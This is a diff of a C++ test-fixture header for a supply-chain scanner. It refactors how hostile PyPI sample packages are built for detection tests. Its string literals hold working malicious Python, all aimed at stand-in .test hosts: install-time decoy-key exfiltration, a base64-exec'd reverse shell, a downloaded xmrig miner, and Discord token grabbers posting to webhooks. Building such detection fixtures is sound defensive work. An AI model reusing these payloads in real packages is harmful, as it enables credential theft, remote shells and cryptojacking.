@@ -45,6 +45,16 @@ inline std::string behavior_setup_py(const std::string& name, const std::string&
          "']" + extra + ")\n";
 }
 
+// The two shapes most of these packages take: the payload in setup.py (it runs at install),
+// or in the package's __init__.py under a plain setup.py (it runs at import).
+inline std::string behavior_install_sdist(const std::string& name, const std::string& setup_before) {
+  return behavior_sdist(name,
+                        {file("setup.py", behavior_setup_py(name, setup_before)), file(name + "/__init__.py", "")});
+}
+inline std::string behavior_import_sdist(const std::string& name, const std::string& init) {
+  return behavior_sdist(name, {file("setup.py", behavior_setup_py(name, "")), file(name + "/__init__.py", init)});
+}
+
 // One finding a package must give: its rule, its severity, and a piece of its summary (the
 // trace's evidence as `batlehub why` prints it).
 struct ExpectedFinding {
@@ -71,8 +81,7 @@ inline std::vector<HostilePackage> hostile_packages() {
         "urllib.request.urlopen('http://collect.exfil.test/k', data=key.encode(), timeout=5)\n";
     out.push_back({"a setup.py that reads the decoy key and POSTs it",
                    core::PackageKind::kPypi,
-                   behavior_sdist("keysend", {file("setup.py", behavior_setup_py("keysend", pre)),
-                                              file("keysend/__init__.py", "")}),
+                   behavior_install_sdist("keysend", pre),
                    {{"behavior-canary-sent", core::Severity::kCritical,
                      "at install, sent a decoy credential's canary to collect.exfil.test:80 (POST /k HTTP/1.1)"},
                     {"behavior-token-store-read", core::Severity::kHigh,
@@ -96,13 +105,12 @@ inline std::vector<HostilePackage> hostile_packages() {
         "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
         "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
     const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
-    out.push_back(
-        {"an import-time exec of decoded text: a reverse shell",
-         core::PackageKind::kPypi,
-         behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
-         {{"behavior-interactive-shell", core::Severity::kHigh,
-           "at import, started an interactive shell (a reverse shell's): /bin/sh -i"},
-          {"behavior-network-at-import", core::Severity::kMedium, "c2.exfil.test:4444"}}});
+    out.push_back({"an import-time exec of decoded text: a reverse shell",
+                   core::PackageKind::kPypi,
+                   behavior_import_sdist("revsh", init),
+                   {{"behavior-interactive-shell", core::Severity::kHigh,
+                     "at import, started an interactive shell (a reverse shell's): /bin/sh -i"},
+                    {"behavior-network-at-import", core::Severity::kMedium, "c2.exfil.test:4444"}}});
   }
   {
     const std::string pre =
@@ -115,13 +123,12 @@ inline std::vector<HostilePackage> hostile_packages() {
         "'44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot', '--donate-level', '1'])\n"
         "except OSError as e:\n"
         "    print('run failed', e)\n";
-    out.push_back(
-        {"a miner downloaded, made executable and run at install",
-         core::PackageKind::kPypi,
-         behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)), file("miner/__init__.py", "")}),
-         {{"behavior-downloaded-program-run", core::Severity::kHigh,
-           "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
-          {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
+    out.push_back({"a miner downloaded, made executable and run at install",
+                   core::PackageKind::kPypi,
+                   behavior_install_sdist("miner", pre),
+                   {{"behavior-downloaded-program-run", core::Severity::kHigh,
+                     "at install, ran a program it had fetched: /work/tmp/xmrig -o pool.exfil.test:3333"},
+                    {"behavior-network-at-install", core::Severity::kMedium, "dl.exfil.test"}}});
   }
   {
     // A Discord token grabber as they are written: the token store's lines searched for the
@@ -137,8 +144,7 @@ inline std::vector<HostilePackage> hostile_packages() {
     out.push_back(
         {"an import that posts a Discord token to a webhook over HTTPS",
          core::PackageKind::kPypi,
-         behavior_sdist("grabber",
-                        {file("setup.py", behavior_setup_py("grabber", "")), file("grabber/__init__.py", init)}),
+         behavior_import_sdist("grabber", init),
          {{"behavior-canary-sent", core::Severity::kCritical,
            "at import, sent a decoy credential's canary to hooks.exfil.test:443 (POST /api/webhooks/1 "
            "HTTP/1.1)"},
@@ -156,8 +162,7 @@ inline std::vector<HostilePackage> hostile_packages() {
         "timeout=5)\n";
     out.push_back({"a setup.py that steals Discord's token only on Windows",
                    core::PackageKind::kPypi,
-                   behavior_sdist("winonly", {file("setup.py", behavior_setup_py("winonly", pre)),
-                                              file("winonly/__init__.py", "")}),
+                   behavior_install_sdist("winonly", pre),
                    {{"behavior-canary-sent", core::Severity::kCritical,
                      "at install as Windows, sent a decoy credential's canary to hooks.exfil.test:443 (POST "
                      "/api/webhooks/2 HTTP/1.1)"},
